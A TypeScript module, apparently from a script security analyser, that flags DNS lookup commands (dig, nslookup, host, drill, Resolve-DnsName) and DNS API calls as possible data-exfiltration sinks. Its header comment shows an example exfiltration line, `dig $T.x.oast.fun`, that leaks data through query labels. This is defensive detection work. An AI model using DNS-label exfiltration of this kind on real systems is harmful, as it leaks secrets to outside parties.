/**
 * DNS lookups, where the queried NAME is the payload (exfiltration through labels: `dig $T.x.oast.fun`) and
 * the destination is the name's domain (whose authoritative servers see the labels) plus any explicit resolver.
 */
import type { CallOp, CommandOp, Word } from '../../scripts/types.js';
import type { DestinationHint } from '../destinations.js';
import { optionValues, parsePwshParams, parseOptions, type OptionSpec } from './options.js';
import { sink, type CallSink, type CommandSink, type ToolSinkMatch } from './types.js';
import { literalPrefix, subWord, template } from './words.js';

const RR_TYPES = new Set(
  `a aaaa txt mx ns cname soa ptr srv any caa ds dnskey https svcb naptr tlsa axfr ixfr spf hinfo rrsig nsec
  nsec3 loc uri`.split(/\s+/),
);
const CLASSES = new Set(['in', 'ch', 'hs', 'chaos', 'hesiod']);

function isTypeOrClass(word: Word): boolean {
  const t = template(word).toLowerCase();
  return RR_TYPES.has(t) || CLASSES.has(t);
}

function dnsMatch(tool: string, span: CommandOp['span'], names: Word[], servers: Word[]): ToolSinkMatch[] {
  if (names.length === 0) return [];
  const destinations: { word: Word; hint: DestinationHint }[] = [
    ...names.map((word) => ({ word, hint: 'dns' as const })),
    ...servers.map((word) => ({ word, hint: 'host' as const })),
  ];
  return [sink({ tool, channel: 'dns', span, destinations, payload: names })];
}

const DIG_OPTIONS: OptionSpec = { shortWithArg: 'bcfkpqtxy', longWithArg: new Set(), plusOptions: true };

/** dig, kdig, delv: `@server`, `-q name`, `-x addr`, `name [type] [class]`. */
export function matchDig(op: CommandOp): ToolSinkMatch[] {
  const parsed = parseOptions(op.args, DIG_OPTIONS);
  const servers: Word[] = [];
  const names: Word[] = [...optionValues(parsed, '-q')];
  for (const w of parsed.positionals) {
    if (literalPrefix(w).startsWith('@')) servers.push(subWord(w, 1));
    else if (!isTypeOrClass(w)) names.push(w);
  }
  return dnsMatch(op.name, op.span, names, servers);
}

/** nslookup: `nslookup [-type=X] name [server]`. */
export function matchNslookup(op: CommandOp): ToolSinkMatch[] {
  const positionals = op.args.filter((w) => !literalPrefix(w).startsWith('-') || template(w) === '-');
  const [name, server] = positionals;
  if (!name || template(name) === '-') return [];
  return dnsMatch('nslookup', op.span, [name], server ? [server] : []);
}

/** host: `host [-t type] name [server]`. */
export function matchHost(op: CommandOp): ToolSinkMatch[] {
  const parsed = parseOptions(op.args, { shortWithArg: 'cNRtWm', longWithArg: new Set() });
  const [name, server] = parsed.positionals;
  return name ? dnsMatch('host', op.span, [name], server ? [server] : []) : [];
}

/** drill: `drill [opts] name [@server] [type]`. */
export function matchDrill(op: CommandOp): ToolSinkMatch[] {
  const parsed = parseOptions(op.args, { shortWithArg: 'ckoprsyT', longWithArg: new Set() });
  const servers: Word[] = [];
  const names: Word[] = [];
  for (const w of parsed.positionals) {
    if (literalPrefix(w).startsWith('@')) servers.push(subWord(w, 1));
    else if (!isTypeOrClass(w)) names.push(w);
  }
  return dnsMatch('drill', op.span, names, servers);
}

/** resolvectl query / systemd-resolve / getent hosts: names only, the system resolver. */
export function matchResolver(op: CommandOp): ToolSinkMatch[] {
  const parsed = parseOptions(op.args, {
    shortWithArg: 'itcp',
    longWithArg: new Set(['interface', 'type', 'class', 'protocol']),
  });
  let names = parsed.positionals;
  if (op.name === 'resolvectl') {
    const sub = names[0] ? template(names[0]) : '';
    if (sub !== 'query' && sub !== 'tlsa' && sub !== 'openpgp' && sub !== 'service') return [];
    names = names.slice(1);
  }
  if (op.name === 'getent') {
    const db = names[0] ? template(names[0]) : '';
    if (!/^(hosts|ahosts|ahostsv4|ahostsv6)$/.test(db)) return [];
    names = names.slice(1);
  }
  return dnsMatch(op.name, op.span, names, []);
}

/** PowerShell `Resolve-DnsName -Name n [-Server s] [-Type t]`. */
export function matchResolveDnsName(op: CommandOp): ToolSinkMatch[] {
  const { params, positionals } = parsePwshParams(
    op.args,
    ['Name', 'Server', 'Type', 'DnsOnly', 'NoHostsFile'],
    ['DnsOnly', 'NoHostsFile', 'TcpOnly', 'NoRecursion', 'QuickTimeout', 'CacheOnly'],
  );
  const name = params.get('name') ?? positionals[0];
  const server = params.get('server');
  return name ? dnsMatch('Resolve-DnsName', op.span, [name], server ? [server] : []) : [];
}

export const dnsCommandSinks: CommandSink[] = [
  { names: ['dig', 'kdig', 'delv'], match: (op) => matchDig(op) },
  { names: ['nslookup', 'nslookup.exe'], match: (op) => matchNslookup(op) },
  { names: ['host'], match: (op) => matchHost(op) },
  { names: ['drill'], match: (op) => matchDrill(op) },
  { names: ['resolvectl', 'systemd-resolve', 'getent'], match: (op) => matchResolver(op) },
  { names: ['Resolve-DnsName'], match: (op) => matchResolveDnsName(op) },
];

/** Callees whose first argument is a name looked up through DNS. */
const DNS_CALLS = [
  /^socket\.(gethostbyname|gethostbyname_ex|getaddrinfo|getfqdn)$/,
  /^dns\.resolver\.(resolve|query|resolve_name)$/,
  /^dns\.resolver\.Resolver\.(resolve|query|resolve_name)$/,
  /^dns\.(promises\.)?(lookup|resolve|resolve4|resolve6|resolveAny|resolveTxt|resolveCname|resolveMx|resolveNs|resolveSrv|resolveCaa)$/,
  /^dns\.(promises\.)?Resolver\.(resolve|resolve4|resolve6|resolveAny|resolveTxt|resolveCname|resolveMx|resolveNs|resolveSrv)$/,
  /^(system\.)?net\.dns\.(gethostaddresses|gethostentry|gethostbyname|resolve|gethostaddressesasync|gethostentryasync)$/i,
];

export const dnsCallSink: CallSink = {
  match(op: CallOp) {
    if (!DNS_CALLS.some((re) => re.test(op.callee))) return [];
    const name = op.args[0] ?? op.kwargs['host'] ?? op.kwargs['hostname'] ?? op.kwargs['qname'];
    return name ? dnsMatch(op.callee, op.span, [name], []) : [];
  },
};
